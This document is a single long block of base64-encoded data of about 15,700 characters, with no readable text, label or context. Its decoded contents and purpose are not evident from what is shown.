E90lE/mIxl7Na6KBcBP9oYOttf1O3zXnqQsmXmCLafkHq/tF5M04Zk8tCiax/WOZLfXkHQ2ICJcvuQXJjTbGb7o6P7SLrE3khjsFeDy9+uKPJdpGFXuicFb5emHlcRaMBkUrRQeqvCRDgjbeDHU79KWicJb9EEGula50h0LMmGTy7TNrsKlWDV+8TCPRNerGAirxKJCGDDj8bemITNW57w0Y/pycuw1454Vx5CwzBLX0rRDZnD0Qn5aN2RUqG1OpBBbZXPmJ8BA+eIx0RVMeBM18WnjVBV3AWO5uHYEwwul/QtdDfjsIh2Fbob7DKf9Bs/IR8aKvsrENO8Zj23W0NbIK2RIa4vUMn6+s2uKgdxBxSR2JI/Doko8wjH/9jWaBs5qFsVG4RSPYdvJASS8o86bcT24ROrCtbtq4Yq2tjpVdCFooj0tP3qJGp5U+06gXEAeTBBRJPJ3aOZSl9KympdIYvV0Ky8baP1tNTpHW6aINlBT7rrDGZk5Clhe+4x5mpsLpQE8tgll1H37LLx8wUDVJDEu83cAAqVK8Hv4OdORbX+FLJZdU07Lc6vGLpjodSSjgJXj7P50QXX/PzOH/PfJ9zxevk6ojMgjbMraAzCFdY/OZ5g2ONkomf5oXBy0bgjK+56Vf9ZtUTDpvZ+aSD+EqMXENWFzeMT72cPH7iniy7+2P4L0dlB7eVzTAhKGv5R/Sbkak/yaByH0peaUZOSd+LTaG467LkcAtGLgs/b+8/dyrtxin5v7rvvuFVoI+x1jElcIRU/DR2A4Sf3yMQ3wFkR2V/U5nvdG40LHSqjhHIPdMZWqYcb44lLGlEIpQ2/QRCX5ZqfCBbwjBDZucZuV7Q/CTkCRs99AUcL5RsRGJrc48RzvRWac8WVDPOPY/YTWlrwChiRKrx/mgV7Mq0yf4DnKBoYRSo/yhn2h2XGjvybue+XgeuxuoePt6kOWNuAdV/PuXb7Tge/Yi1rykvSkZvD7HMfmVGRjQ5hY/se/Tuu2EJqibjo21YO4YiB4hbxXoI4pESSX72X471lYUk+tlpPn6A0ZCQTr+0sFmH7+M2avN3KuLFtgnzwBuIL/a85xz7zFDhMw8+MTv++r8z7SaXSHFR/NiG6eIX5M0z0hbmi2f4WYl7p/HjO08/Q1jRUaOYAdi+mumQ74TuAyloAxF4no4PtIS2fSMhQ8XgFyCC8IcgHicw6rHzEpnLSOry4I85c/J/s2PAxkFNzuAZkeZpAlNFPCP2LYlUE+EumS0BQ7N+aHL7BkcxbTrBjDT+nT5yXvleRJjiNRR0/ck17GrT1itDDGgVk9og8rj3ACqzdMGHmheXyonWFUQ5cWLDIQ22R+H+PWcZqDxnyPelUAS6gK5IXDBJyrrEaUl3J+RZ19OQtYMfp8LOjdcoILmyqvi1XI3aWrgn9Um/XDEIV1agIdMgO873Mrg1wUZ0EV0yO7PGssnz0vbB+U2WUQAawu1gpQ/GO4eIRyYS9s9ZSDuJSTxlkGy+/Pqb+aGwPrQsm/M/DtQ6htqgLHvOPQLUopNdZIle4e7PLT/bg6yzJ5ZAGIw1VJYsupPqSXppBaTbpoCoTxX6uuzcnqLEun8hJkHNMRdY4HuF+d1A9bpLdIJ35UJ+PGEYom1OmFf02tw3H1zi1BoP1oFWq9Xt0xwSB48+OJZNpeVS3jjp1+OifZ69jI08V16lYPOy4Dn1X1TeP0PtnfX4BGJX4qgpCInHLoPxoB82inBXtuIfk6JyGFYBbIoYAY3FXbTBoRxWkNiwvmTlETU0FTxCqMcce0vRTj0KTkfH4nGWfY02u3pKXO2MjK2LisrHUxi7YaRRy+ptxFZARBX4yrEKjxnwNLAojPDNDPMlGgc3d0pfvoNZoSwQE51fnTbnzTSOyfzCMU9HLOi9HyPeqCBzp0l3viaaJOjdsMTohRVhEUH+ponD+1Fh487+pth1fB9wESjbmMHYP6+aYjC1QiBGrcW2KacPgRwso2c9S1T3m1f22EFcfbfsRb5zQmBabQLwhTl0a9DcsOoIBeehcv0qLwDmmNQldPf2kqkxYJx1By+6gXSeWDaCNzyXQsdrhNQX0Ci4FfFdnYXu9ja1i9UAGsd6kkZ9pNgFnWprwgQh9b2JUm7PpoM5Myqo82vOUTdoWziInawDnKOL7q/f8tMti+u0AlTiHymuTmeU9JA9FBOzlPYlINXs37GUo3qLlr9tj8WAkTaDwAozIZvqr4txFsU28EJHxS25Rph08Mit4G2GDwiO/UDOY8boyUcCTPeT2GUrNROXL/EaDBmggYXaMw9kPEtVngv1D0IbTWbMD87dCRrfZojEC1kEGvFOtYEQTJ8qyuQRa94htyWlMiplxKtvppuLaV7RgC39Xr0/HIy6Eb3IpFGlsHTzdWI7z8mG0yJsOgiaCiYi4YkKxnkmI9kyR8E+miwmA15vqzRbiievDRtJuDRCaYdyAIunJXlWFcKF3WhodxKukBAHu7Z9sNqaLuMKWC4d74SVfOM05s3zU7c8jkZtln9oJxzd8cY7wh0sbm06Qfus0Te3ZgHP54Jt7If8uVQ3AjgA6bW8ezyy+tzWJ+6T2e7dubdcuiO+3axCaxUv6jb92Ekv5C2Qw4dc24xyqjlOKA7QWXJ+bzU+zOpabnjo+hmqeUIP99uEDsWSQa7brx3Zhq87Rpg/PiSBKR9/+08lfw+bllth2WIJwF1U/TC2NpWKE7Kmm7emb/s1Iae/UdQBAgWofKjX0xXscHv1oUoundxaofYuOXvfbVCOcCQHBP0ZFVWf+ENL5bAvibdB+ZCj0V0stjOy23axgGyHcxI/Qnq6dTfa6q7l/Gi3nFzOCzF1arlKBJaD0wvgUUbfl2PDqRDPwSxYhYXbva82VaIfaZqnr9DR/kyyqn0kumdI7CW2SdJZyEqmZJiw2yrlX7WuH4f4yu2jSuxCcU4/Z5DdGDfsRUWGt1THzUZNl3nwCeaDXiYoe+hqGSdDB+Nx7pa6BSE3s1YE8YGR4BTY1cil8ifp0oSgqSAvVuhJpJyCyA8wWnbJSC87eSXYIFbVE3p20r0M5WYyAJCF8N7+fp91+/mieOcdvO5eJr6KV2qq0A6mG/FuTpmkhUQDYLzDM32ZHqKhaRQdsh0aDQtZ9Q09ilCTYwfa8jscKdiwYWuf+eK54o5fEeDsOrt8qeM4R9E2ty2LIgnE9dgE0qXQB7UaMyaHICuEgf7YbdxJUZuIaN5BOWAgTMNu+a6MJvMPLk+NM+BboplDrAWgOUygr6L1oh771socgG2NYNut8pjZsc/q+lDjYJOMUEEfhzBpbbGi7ugTImEJ088TRHBubd3DWlASRYQzn0hnCsS5ygFpIvExbIhll6R1LX41KJlXqf9vBKalS98Cn/eo7ykqi2VGZIGV6rLDeUii8tmevcCCRfKCbGy9R073TELNcwJTV+145D3oDgMXs0dIjTOPh3VLa/uCYbXXx4CQ05BmGff7WywV35xEkKCHN5IybG2OQwlZhKVfag6S+NpIVFftcZQx61FQRm6xZpkcFiyfErZ5OCaSU3A3KvkKhYBJTrpkwmwHHpV2+Gy4qtJtr2HRzLieDdnFDTxNLQXUbAvU79Nep2E8q19xYxPDGtg6Wb0qHb1+eNFJPmuydJYLUoQSxvHQPrK4uRHnrMz7exLQDPmrF3BvHL6A65YUD8qOf/Y1UIWjXcl8Xx5rmiPFuadbUghSzaK5yJo0X6X41zARxr5D95MgWeXnkXJbpD9TY1rVfPo3fiCDtoAd163vhH8a9vimNHhjUF00YPQP6u94yRWy9IIBbjmEysDOxAf0k4/r1/GWPmMC+9aFmSLmTpwzKsL7oiqgZyMP8RQ5l7XZKIJm7co5IWX5Rv+M70KwPvSUOEpW81EXerbLhXcRr0t67NZ7ZO+RmB0M745r/GJVnWeugWj7Dkt6fC4hYjjAF6H1rOpgTVDYqJcij+j490YFa2CA4KsqWmFhG//vEexX+S4Z6Of4K6DMALXXhu8F1PALpxU0T7UrnT9m+2oNNaqg8m2KpPbBMvVQpzB63stEfiKsuowIMHUiXXppT1qi5e+tGpXAkQWH+bGKB6B31BFUIFhVFzIstPhfzKt/gQ+u7+fPChdXoVDhKyQlVck4YLFWbopjWgjjSt46SUp6jz0b7Rp9SAwx1FvCL6OTgUKswss2hIdltrWdf685xMeg9SuhXTfXzq2EpOOuuvglwLs7GE+n3QCT/K2y8ldyjSPMXBNPlICgbmF7DV1aQbDPdkisxKL07pGtnlwF4iKuwOGbsqLueFz2aT+6tUbz/++a6LyXjWHquoZ3GvW4+UAIznuSDuQ6C5bli/lWfrc3jYT7gnjIAe2CJACBjdPQROxqViFI18rliS90FYJfXRpjOzzk+kHLiG4Dn5z4ofqkjTtKyU6wRSIkHVrdqHMsk0RZOdl3vrHkmRY085fbfkn+u+tluKKSczMRnGPXjUznpxTrJoo4aC0oxb+d2IWi02LR9fXLixnmPVGlO70eG6BI2/4PNJA20MXb+W3UBb8AcJIvetQBqmiPlt9J8VtS/NflOyKMajdxw9V/7vvKjuYpvucoe5SDKCDf8+UxzLYRHkMHi+Ol2yJDk76DeTINAzPkJiVHsMUx2jvLUdbuzJB4NC84aJwGnML7WcpqSnC60eqxfchC5K0YFeLcNxtjHYT7xtew8/YnIzXWdNKIQ5hOOndOEdSLDLk5jJTM6wVWxMLORydq2kJueUwtB+/sK2eo8qhws6zNhafTRM3OQ6Z7UVMm7VfBhF3Uc01pFFGFGBR2uv8xp+ce3KNRjOGaozFAk66c4dTYHFxvNCwe4rlbXBP0YopU+jzl/mrdCPP8/ynuahNQlgSImDnqHEsdI91K6xkrgTiYelJlqONWxjxk0f5rDVfaqOfERYrywo5tnqU+PRSTI3/04seAXo+XPe9SYVI1HE6Q06XuxQ2LNg8UsV9hjheUNRhs2wMQ7HJ5bA2N6rMTs73BuTsWluKrhzFO5usi/s8d9DM8D+csb1HIy19fF6URAuDZYxTSCQTG4cxI3bUAk59HEP6OQ6R0t6tQEzvu00mMDSSDFwzpJJJ9PmQPuy/zodmTjwOjp8LObA774x/yEFFr9Aby16JVlUX7taIP/DLClIs8bU/YI4c27HYEJDf4OyELnRc72qv6MCJ95Jj/ZIr/wRLvpkSz0L4P3EIDRra831lGRbdgL9xcsO0hMyyzxXiwZau0A5n7Sq0083xfaE/7XjKHpHgnM0WpRHfkOXxXA1nuhzTa3DZhw8CnKWyAtOz4lyExWWjXapUsf3jNmr1cTxD3UlXGvfle/cj8aOkacDcyerHpkNc3EOOPVpfvVTv8qENLA31G/9DMZZHMV2L1PSpjxWtZHZWIhCX3aGjKWMte+UzcZWVamCoJOpm1q4CvLzfVYFmWkAmBcQNi09JAEVSw1aHYk5VBEeBpZMndrFAZ+MBMwjNO6cJxq6PzLhbcgBhiZVCcfexGIvc6MbeGvaiusRJsYPlY5nj0n7s+mO/krRAFY6wGY5ndvMn2fsJfrHtmCY5TJknTdcoYmIOBKgwikA4yuDCQJ/91DbT8o4afuDtfT689gaPNJiDfFQ8E8XXrKGQV5bgx/LbM9syiyDLt5ujko+LjL4uiBtGZQZ33x8h9o5aVzK0GPCxxYv43l3+B7JI4NARBydOmXUNuz1Jvk6XlsLuvamTZ5YqWtpnqUjpW/kNur5GjtcfPaTK+/QRF7wS2VGjRAPqIwxJYOpKE9/MjXW9Hne2VMtLQLvRH1oyPrRHhv8efv1Grvf9+j4GlslqCfA2lmxYqGHJ/3u8lCKEQlfybcE+cL8KdlJ8OZYWISoqr8ykUldXmZ+kYEQoGJ2zgOiRxHsZ8MPUGHScSoVpC19ivEJzwg2VQ7XPdSO3GzwYodyiYKCfSF7azuPoAs9XOYSWp4fwD5z1qDMF7/c8dOWo5bs7EFw0c1WVz0wni6VfTv3ti5V3a2lnjeUJcb9CI7JVsqcnt9K3D9DobP07V6FyeD6/ubS7LPY3I9xnK5qGrVsrqWuNImWCdKRktejPyvYlUFztbqFqsMpTETQ0jnqS5abLrF/kyerzJArRTaJpmlxHkGd8ztf1V/Rt6tLHgJF/omFX+NbRHCmFlv0rdDZI5Pc2jkERel/ts05o+ke0q3a/vkgktNpPeOo7hvNcnFXL4aBI4BgoEMissg+o8PnZSOUByKKMSs4LhQdsaD1j+kVPXlzjH78NhG4bUaKfbqrdv0LK3mItc6N1YaSJ+NSygw/k/i6tZVO0ISN2ygL6N1KBUx/Upiq5v3MjQEQBCAaoaolIOx2pVDaRNURz04+/1LGU/fK7t/m6mBoW4y+IY50ju6zVww3pVFrzeBBopEIqyLiSGUc/DBbFMssHqx8+GE/SeT4iHtfLSS3XiVwkXdxcHVqkzThnZhr26gxAPA9WsVPAhiULc48/gkuUFyhyB2nzOXk6+mSdZp9vc9S3LuYscjbk2iRRqR/bob1AzgRrqyZQ2OvfMz1DJoT/DPlZ6EmdTZjakZJOwx/3NBEr0NEpyb//oXgfSV0YuAa/BcPyUghU75YzY30UjI3TiKvqMjUhk8vyVnTpex2fmaFc30EkFFbaTF/zSyY7CAHQizsjPI4Jhy4xrdkT8sSK47t3IhZNwKqLa5Ug2FRca6iryD1uygtUOVT4SZPKbZuM+TC3jVCzIE6sY2V7bbEpsyVB5tn8WoAvifAvvN566EQJFuY3VecQBoe7031sNi2BkZKgDn5ibnygIdcKV7Zjlp37Mtw8HB9Q0iPCh1BGPpS+wxNibWCvxppIwpntcZzZVZvU6a5IpI8/fDXawe0S69M3lAA3gUnRDc61pnWvcnrXX574fvcoyXurvGGCkdjieA1FweL0pcO+bLMhB1i97FobaikcabUrVoVxoKvUjmdLrR2V7/t1yq+LT85debFw9yzaGR2akh6bz0P7zlvPYM+3iA5LeuJTIrUEXiQU6BDg6/1AWVVk436D6uuh/1Tb5GLIfbfvZ6Hif601PdfWJ9U8SgFiRRtm3gI9RkVpLVxDnzaoqImhvJQO9Z3zJuXpH1nrYf+iRuKs/SMmjZZZQxKL+S+FYqREBsM8K/nLkaUKEqtj3pNtCUnS9TvHfHCqBCFheqEEgOxG2YgQqUDNIVauaZoBneSkZikt21A2/wlAZaZU/CFXg0nnHSect1hLQKKbA5thrgJ/lu7ZaJSYjACmk2FfEspWMaAKmnoJ+TBQXsrx6PYi34bbPFGE7RmnMC8kGVrC+5ssE7id6Kc2mEOWDJBJ+PP770O9Vi2+WUURarJcGOwcp4Z6bcDSn0tzvfOX0VPDIx3g0bh1i9tiY6sRzg1vEyBxBq6TG1N6Q9zVeyqkZMduB1ARhuaHnDSJpnVVfG87z74sf2de7tvm3zI3K1gvdScewStZl0jZg/cE8FcrueU1u6F5EH5/4TCLMyFeNKf52tftK5YeoXFL13vk6o1FwGmYCR5EkLO+9V89p/JWttaNSFxOjuAsKlTs+c08iyz3n00dY3gP/vs5LDmJX3fEJueQ0r0evuozHNqHeelJE47epVVJjevVSISYRH31W9MnB98Zd2PgqakC40lpApf4/gpsvMdSYhPB3yXMMfE9cGlTBbnGVaEuADRJ32xVP7PxFhXSu3nMa4FKIYXjZVvgmV8XVL+yazFChukdvux0c+u23SsOygKAB2CkHwBuF2/8tB7pHBzU1CKS6oERvUtIEgnyaq2xSu2Pacxs8SgyxSoFxSAC1BakttnJhb+rn+3S81rEIQNA+M7FhSITzLGGDOZeWS4Wz/6BQsxFKxL9bfyTb+SyIciuCNV/OvbvnztHoKM1FIK/WC3wnXCnhMrHaqs1+oJVJdAbM+CnI4m+GgzMQpaMsMGxTTL6kQj5jkWIZdzkWkaZ1TmgHne4XU1BCr2DIcAxh0tc2SCbYbOBVjncIlg92qeS2GWqodEzyzsoAWvmkgrKVSTYqihAkze/FJnaYwWy/NFBI0LdLBMZyNdADkpvt2lfY82dj+WOKGxJ/OE8SfNoAKNocQrFYWjUMNyp8rC/jANI0+wtVKoLA1bdhfvmrY52I7Dvdg5h9RgGHoH7m/MOLgmL6XzHP6q4kXIJxqHKvXMd8nJcU3H2aJVwdUSlGhKzSs1tj9c1SWUmEOpCt4b4wskHXh4kpewNraRneN1pL2ja/QQMjnI8MfltGM6JYDuWedlmLzu/h0fULnWIx3F+kLKjc3uMbWL2m6wMs1lbFa/Psa6wMIpKFpPAfJtyiFurv66t8u1ggYuQdG6lN8vYCKfhOCHCDkp7SuWYf/AvlMgPuS1jdJgxvWBXHmin7O6Do7/6cVv9o9SoRe/+E7LAgQQc0wam69Gv1jZgzCo4kSXPPDHkM1mpSMKm9qfIJnfGx+QZFRhe0PjUd9Bbb0BsCg3xpb3llRP0xJhrkaLNE7HsbNi5HXGwaXJ11BFz2TlZNijUrREhHfnwW+OPJ/tt0H4jLOJ585KAJU8Lu/wEHSdSCb/QLaWYrhdYY83BeMPLK73wSmy21Lk3UttN5XCiMPAeHW/cUqaoL8G7p7iA2a7crvHyIThLMEOdvImeLBfbqSr3qZI9fx6GD6cbRGbAR9/7GcmTc9CqpWriG7jHyxbd8jqLAnr4O5bD09vh5CZQ5w0qvmOzwy7kOmbAo5Zqb+QR4f5xEbEIQkeZgz+gL563fwkWVNoI/d7+7PyZ1v+Zne+YnjwXZg3ckm4XLgIe6LTtUkMg0NmEHmlHVLIFRf4rOHb5wR/WkkfRutjG+sc9QjM9X1l04AfSY6w7FxuRAb8s2gd3sYwOC2OOTpAN8vnMKzHVJSBE6Mddifu3SUhS3zuJhr47Mfo5yh33NJT988ux63VTBFq3F6nH4gxD+9yL6HDUrWm/GzfvEEhmAnItj8MFDj2fB+TB+crn5z0tKyvggYwjOzeVo9eetsmYEOujSxCVwD034qHiIJah23ZJMs6dr2mojq+9ljUa6IlYRJwdkxCrslDw2jSjjDgSBFLB+n6qDMh7yD39CKiE0ZjpqzNbGc69zSA/SCKakLHeikB+fAnD3Pfb5c4CCvPxy39dnJ9Gbw8VztHZ3F4eg/FSmabiDDipD5e/8hvkY9NmQskKIWVBD43A4I5udO1xZS7ui32sMJ6avmkxwehs3JYl+295tMuUFanHJeGa9l1Epa+0tkPuhkiHBU7dZCQrburKzovJYhrAYrrHeMJlcNertgFzqcfsekqseZYrbIRNby9O6b8g9DRFw815v50TdvUZksj49bUdxUgIhtgsrCIhZK+mrcQxnK3ZoIC0ta0YCqkJ+BzzU6mdci2xmWR9wMplz5WCj3dcD1zINQxaR0/NbqHHGYfpuVf4pE/uQgva/8eHhw68s38Wd88OYt4ziaoM4LdDyu9W4f6Vc5GDazj+5Dd6kcgXv5h+nnk1DlBLHyV66yKlccJ9VKpN+rJlWFMWTEbXcYWWOYbazrK7MDlcbbQXeZ6g0UPktMK0Ya2DdWdU53E+Rte1kJ6V1hwc12AE0rHsiR9/Ddimsbmec1bQdjyRUbQEFKjAPgX/3U/5ga15Y0kuJTqfqut6DldcE5fVxEOUuxGzZfv7/EwVlncQj3yCpg7Fehe5K+s3wHCY3jKKTcN1b+VOIa5ZRLBrnbWGx5LbtIV53cwDDdj5KzqjoFu5CYChqOEOLTV4qtRF5BHBMBweXE6OgNBkEZ7NAf3MwslHkgBrRqpAQS6EyT+LSOQBQm1QbWjfabRrFMFlNkYy8JayLX3PHEAkqLx9qN6DL7RyWQB1Rh1njvMLyWBVFBS4QgLFCTIA/6IT3FsWvENTnnagsxc5cH/z0Q7vSzQgyrb4126nXZdRtn7LJ34Knb1deDy1XWMR+ytbd+7cawQeFzebiDTDQPjWs58uJUmXOpKYnhkfFEhCQLsAPLyKzIF3s4a1tLWgwaMuu1KX2GIL/qGiTffviHOYY68FKXHMQZ3wdA7g42iJmST2TSA+PdkJlyC/os1S2DBAJMGjP8+WL+wBmk9jUPzIg2MQRQZ5YtAYQRYr5jdyXvFCw7h73gT4C+FGH0cVl+GYQP2JDUp9dMR7EoYBWU5uTf4DRulE+q3/9FDXQZRuqhwAgjH+3KWtoE2//b/1DZAXgpSBsyRhXnQyPg9n9Sr1gMXzC/tMv4sb3HXp/6eENv9LOaThRxCZ7E2IlPjo2wF3aTOG9mrW3HUnO0f3gLWStvNBCVnQPaiQ3kcCxMnSb5xQ3ahs9P7WYYZAt83FKS65aTWiQ5uwlO3DNS67KWDsTxLMlc/QlEFbVAjyzbmgO39A2/rLDJIjRME4HUe/9zVwd+Co2qCC+k3nVTVJ3Dh75t+TIZKfWP+pLbWssV5mCR2aS2z4vukf+fjyJJtJZdM0v7lxxO4SvXL7vkHV0GrUGW4KvNDdD9WeWdT5IEwuJz0k8NboYgs8gtWUbuAFQ6tkR9P2eMg0nX0uSBHrwCRz2KOVKQDMmGX9dKXex3xvDkt+1PMMPCCo2rB0jzjj7frf8eJqnKWDK55XdbMGW/EldOxIKFOeFmkfYCcrZST4Xyehk4Q0Rd49C1yKckWxOD8B0Jt3ta4OCCl8NHbTshZcQBZhyUSA+Op8c9DXsol7MDsTZk57wTVgPjubf+uPv3vdz5Oa5KeVEJXiVnA71ANgUQ2BIFWZk1sNz2XvYxeG7jxnc4h9U3nTh/DxUhg1ZFFotesUxxUvK7D6SZ3y8FykQckma0WmZ5LPDelmyVnzqqepGCx1JL/k0mfa2+OoARvIJr+eR9RI/YCl90uCenTKh9FKCRm1rqV9gpKDVEhiWA5twpBwSnD3MxF0A2tDFc+lgdaVrFdPlavxWODQQ22ikEXXS95yiQPbprPg5cgK+KfuqSduhwfW68cCp/WTCBUedF8j96KsNZRlvhSRqsanx7rKgYuqiSH7eifK8ZyWBA+VZAdxpjXRzNy0Q9tWbkRI1r55HHsC9MiPK4nCBscLBaKdPQRS+DtD8zEVnnIKtCdVgrMTU3f85wcVP+XLJxAI+ScU6/XYZ0a2PnNJc2nxg2/nZh9+KX7ETQypIGzvcVVT2BaT8t2sCY9Beq254u6sBGXgk35rr+slnjne4TzKFUEtmSmVB2p8qFPZJzTbGZsW+5TTr1m+zx8pEprRIFUPB0QuSXvh3XLfcThs4tbuJnsJ+m+7tu/oB+pFSQllB9ZyJDwuSGM9DdH+8ET9tmtzzlT0mbQxMjO59fxlNwo0ZIh2hYTH2azYbylwWCvZN8iafjbzNsct85KxRWxcdGk+6auQzbqFXMkAh09p6yEkKJwt5ZY4a5o2HoGdPQG0ANMaEVyO3CrlKazLKjNvnpmAXInZta71TKrrxxH7nvRbqKuDETnhENbWDtR2VicNzvJegd66mYW0zPfXe7LXPRu/YdLd+Q1eOF9FYOADEurG4LqdHHfeBygA9sEwID4fA7z9IKNh55YL52IKWUoQrGE9stNfqR7pQ+nBV4sAkgvhir7x7gAnLImSmjoRRN8UW7voPKHM7+g8eH4ze7Av2wEqCuG1+gW5/q5dnH3prrwXecvsDNB8nOtc72dx5qcHL40zLfPA/pmbhSTxe1nKlk355oP70QjPR5cfqDF+pj2qXyfiuFlzuw/nCbv6vGJxG25VQGOlS+DQOisGpWDouDzRxjxbuRMrZt7kfjHZ/ODPG5thCPx258PlWgutfu6UrMCqqDl0qr0MH0rWfj82gjj396cKHtap7wPzQx5iKed242pMGNAI+H/j5+9x2sTvYFp2FXe27lEzk5Va6UsSryFaztisZr7oUqWHhnpTpMbHzp5w+SvFu8kd0/UwNqFLHSMXA/zvfuWWrI3owREy71+dvHwtNHXr7Rjsvl/M4DXonHT+w4zJUP5QpLy2NRaDuIo5zQJiwDGcb+pISI4/rYDS/n1Fll7lvg7nc3Yv2y3FURNCbO98xfRVlnGuv7IxmjB/SJGOe7uYOQk7hso/CU1FYp30l15ArVyLUM9TdTastl296rfdFjd2ajXKfEruVt3sAqmMu0IzH3IlWL5GdhsdXkKYKva0Qj1/pXHUUqhD47UviuoV7Q+i0xPRXGUxBnALc2gq/7LIKyNV6pTNIfsAdWD6B0m+6PiTzD+AthOgxfjC64abZ0tTpLgZe4Pc8ZUgdA+2yS0VZXJ91QF1YZJvxePxXbPvPvDWPBunx2eeOH4fwPfSy1JP8OS5A0km/fVmQUvgahUYbCvklIBxpEmvmaXrvLwtKa49C0oVFcoj7hcS79JhQvbgmNbByHezPXNTh2EM2jHOH+AHcngaRF2KLgakaoqqwAb7zjHXvcXwl38zDKXuN6r7A19t0/Gh0IPZiPBCV7x8JWAUhaQi2wFSPITr37f+Ma5IyrXUdSHQ9j10eZE9NxjROJ9X3//Lr3zvM0FIbt4lPWb2X+lhvjn8qflp3MIeapUmtNCR8eSlNtlfGQTMEmpLMPHKskbp3VWwiC/OOdX8xzCFdXlz2gdvWBQQmqwqSi9JWExVMtpn622ONwKw7NOmRphvHLa96ptTn6/xTgGZoULIlfDoQVcFHc1Q/Jlplg77tZ6uPzWJui32HuVPCrBQuQ+s14jzRez8rSls2mu5iHtII70lfQ76ImpVoisqOeT9jfhF1VdXKZ5ySfcYOfe9t6CBMZx7MQRBpobjRVUKbi/hSJxSkJ7Pok8QviRH/keoEDx9jbnTN/7oIHi7M9XvsiHswDg78jxwygm8SKDF49tsiuEnzhJWyJVZesQ0uq4EpvUZW113tkr+U5oYg/aZT14j7+aAQK3ENT3xRMeV6vzX7RyYQVAHBwlUtXz5psL9mN7HwdUKBFg7dPWAsLBrJuIBl6cLV5f5S1h4a5S+BmmMmMOEWQXHhWlwWCC3/KMjdvsm2B+BTXhLmEackDln8uYgXR+oFek6wJYKPAfBFC3AFPK1fZ0Ekkqul2Jopj4HXZpiraXlPvdCeDd5nKTWITGaH6DafzuxJUz3jBVBJm4W3KdqGgKUKJl39h+06SOPTFfZ+Yc8+daMv1ZiYS8FL/5o53M3OiMIeUnAP0t68ORdQWlF9TVyIv7tq/MB8pvPPdiWugxBBt3jR7uBWcjONnUJDVtnfyUqIS1/5BEqRCsfatXTnqsCqOOK0Y8UBrb8iBq212aibnVK8bGV/2WLZDvJy5/E+KYLdCYXT7wFQrFgJ3A7XpnSgHEauPrxOlrBgZX01sBvGr0WOjh77PQfftZ93iiaead3SntUQAUm916fCXNOKCfIw+BqKnGuX00P/8ECRvoMAqcVksy03TmTEySD/w6S3XmkWsGRrIcvzKqwZcR1kRM/Avciu+pKdL6d6N0Z/PPVlY/0kILxoB1MIMKt3j4sWVKzKxMtqIbO6aDu+oylmlcy6kGKiEnJfmp04oKUsrwJfBaWzQyulG8VEM9gnLP8bcD2B+hYqzRSC0IsWO//VTyE+j2W0Jy2MMxRsRl8AAH7B1sAq701XgdlAnqBzNH0TXeMfjPefuyEyWoYjHFFOSGBkifsfHIMGmv3eY1/YHGSSC1tdKXg0h+NS9n4EJnhvkYJe/liUhFdKFSz8+VyxjIxKZNNvhD4rjf3yBVdPZk0kmK60XcYO9cEX77eQpbV58UHeAjx27NiTJcD+2Rl4pJOoLtEUC68uqkPAbBpqQey3+sb3Dbvn97M/6wAPAsAajYPqTlR5DoQOisyUsu3mw5kyIePHC5p55VAtzPmAMrwqFnS7aDb+DMqEXCcYamgsz7SHeM1lDWj5oACacAMj/ydhNPrhm7c+wawaIsCw80xesPtHTyg3qAAp2Op2UkTpwVu3GmHBLWFxLsasS+D1qZM6HNwFYcrGKFlpzF8O9L/3qJNomEzrJ1L2+V92dx5T/LIiV19Rwaveu3hjAvEZ+A2YP6hRFOdtVKow+BV53LCmTihIwJYOYDCSeZ3jVS36VcIj/kuyShH4XKsXY0/cu3ZGr5kBURSTTIVARAGVongCPzpiMtlBcoxyXazQn7BWZ5roh0qlDdA31cTkFV1mToyuRj2cX9+cdRm0jN+74lb0Xic2afAX0hzlTgsN/V+a5Oi1zlrebQjS56XJFVGs6vcyiYVjQAzKvQIgNKGfPbe/0R3IsLNVWEQvaILgMHXWSgIQlajw1JIqJMBJiOVf55KiC+nskw2My93hO96aJ78tF2xXR1jcJjOka4nBFPfdtuU2ybzUxfvC+oljHaOXnzxb9cHk7tchSRfFo/29IfC4sdX7DV2gLjG2SpLNlW2DaWidZUMax3bM69HA4lRMf7lPWuf8sBUhMwx4TR8K280CFRVWpXay6nhVc2K5Vk5KC+pcGKZuDgY8CH695Et0WjeO3TY81Y3rnwWA+7/ZfHuMvXb+OOZ4xqRApcyg9tAYAhSg+K2f19BlhiSxm+KfPPISLw8a9VtaMKdQHQ21jIaMqZ4LDLBSho2Wc1kAxyVwreHi8l3/jrNlOTl0N5tzuLtyeJSXnoR8aeBIbFe/w4SNnLwWwGHEzg5YP3yBtmwXFL2JlPIt4V8s6IxE8cAQgf4PZMRyKSDTaJlSRjwftMtcyOcW58RATUrPmeLTblR3CfMcVS3wxAkqewzxdWzjYktSRBj6BwWmYMhxoM1uxEi6pi1ElIRsD0zCdau22Xiqo1m8N9tG1M4M/UaJOY2cSgWAnV8ybql5oflKQSG1HLjbhZqRDiQZlVL1/CuXmCdZ+uYSG4LfZEIyYQ1y4seH61/3mTMYJe2DFU5E0m4joQMpI+WWzxnNsyKPu0TfNfOO41kA20Q3tXiMHzPEywddmUcFJxGjzZIm9d8r4/MU5ZsVYURqYuMJI0M864ZWsgA4NZnghgnNzBoNg0Kc+yx+adJKLdaPmK8oMKVvp3MpnM4bMWzQjq0x3p9zGHtDIEhswCzZAug5XGfVs3VSRSNTnj48nA1FGVSP+XQ1w8L1L1/XICvcMXVzGBVig6LC9JzcxiYbu0pyadKN+bz7bA3s7uNQRW6fI0mZdlztZMz/qIhmQFIATBYo+rmJMlsQjvTS79ntHXFBt+gCnrvWPC3za2ynAnLYhCDexbTJWGnR5wlHvA6Tzeed2dDm0umUagxPaC8hRt1SCpZOVk2CvqRqVw+Qgg4/0mYWyy4N23wB4kQPbXTYXlwz5vbBHL5g2Wzqvi6feuDzPA45QDS9l/UYpuixZEoKFjZw2ufDlS+hyQCPIP3DF0Bq5kydpwYlh5Wz3PCKVKMC+wwssQ/oFnMz2k0hwXbl7U+QFE+A/AHlGvgC8tsKIyljYBFkBBhDqnq942X4qbib/iKN5SJ8Z2mkHFHxyspgivNk3XyAHbPHf2EMuqBWvvV//Vg6rgHcTEcAz7avbnLB9PVp/3/v1IoAUh87jy/8zjJu/A7xjO7riX4cQbKpoPHaosJbkzLNZgiRX2r5ahs9kc2C3VQ0u9S2cyV2fuUBEDLeeaqt1urvOt1RA01rB9KXU8v888HGjf93FHQ+FNjEnwVjWfwD6LUgEJqw2jqgPhJDl9gLy+3JjhZT/ZKZMb5xWw1SHc2cRa7Nevcdz+qUUJDDA1ZoivQzYbRr1N9YyAYS5DWJhhYLwbH5JPJSaKmGHtplG5krvdg6p4dlCN3t+ziAOrc0gX539PnxzLgytgIjN1se6FHOvnBERfS4/y6NU0ArXRo298DfaSBimih+vD4rZdqszwvSIRrmzzvMkwj8JqrD3